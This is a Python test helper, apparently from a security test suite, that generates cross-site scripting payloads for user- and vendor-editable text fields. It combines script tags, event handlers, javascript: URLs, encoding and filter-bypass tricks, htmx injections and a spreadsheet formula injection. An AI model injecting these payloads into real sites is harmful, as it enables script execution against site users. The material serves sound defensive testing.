"""Payloads of E19 for every text that users or vendors can enter: markup that runs as a script if a page does not escape it."""

from itertools import cycle, product

RUN = "window.executed=1"
TAGS = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<body onload={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src=javascript:parent.{js}></iframe>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<math><mtext><img src=x onerror={js}>",
    "<object data=javascript:{js}>",
    "<embed src=javascript:{js}>",
    "<marquee onstart={js}>x</marquee>",
    "<style>@import 'x'</style><img src=x onerror={js}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href=javascript:/><a href=/{js}>",
    "<link rel=stylesheet href=/x.css onerror={js}>",
    "<a href=javascript:{js}>x</a>",
    "<form action=javascript:{js}><button>x",
    "<table background=javascript:{js}>",
    "<div hx-get=/healthz hx-trigger=load hx-on::load={js}>",
    "<div hx-on:click={js} hx-trigger='load[{js}]' hx-get=/>",
    "<div data-hx-trigger='every 1s[{js}]' data-hx-get=/>",
    "<template><img src=x onerror={js}></template>",
    "<noscript><img src=x onerror={js}></noscript>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<img src=`x` onerror={js}>",
    "<x onclick={js} style=position:fixed;inset:0>",
)
BEFORE = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</option></select>",
    "--></style>",
    "]]>",
    '\\"',
    "&quot;>",
    "</template>",
)
LITERAL = (
    "{{{{7*7}}}}{{% x %}}",
    "${{{js}}}",
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "data:text/html,<script>{js}</script>",
    "&lt;img src=x onerror={js}&gt;",
    "&#60;script&#62;{js}",
    "%3Cscript%3E{js}%3C/script%3E",
    "\\u003cscript\\u003e{js}",
    '" onmouseover={js} x="',
    "' autofocus onfocus={js} x='",
    '" style=x:expression({js}) "',
    "`-{js}-`",
    "';{js};//",
    '";{js};//',
    "</script><script>{js}//",
    "=cmd|'{js}'!A0",
    "![x](javascript:{js})",
    "[x](javascript:{js})",
    '{{"toast":"<img src=x onerror={js}>"}}',
    "＜script＞{js}＜/script＞",
    "‮<script>{js}</script>",
)


def payloads(count: int) -> list[str]:
    """Return `count` different payloads that fit into the shortest field. Markup has an attribute that makes it visible in the page."""
    literals = [text.format(js=RUN) for text in LITERAL]
    marked = [before + tag.format(js=RUN).replace(">", " data-xss>", 1) for before, tag in product(BEFORE, TAGS)]
    unique = dict.fromkeys(text for pair in zip(marked, cycle(literals), strict=False) for text in pair if len(text) <= 100)
    candidates = list(unique)
    return [candidates[index * len(candidates) // count] for index in range(count)]
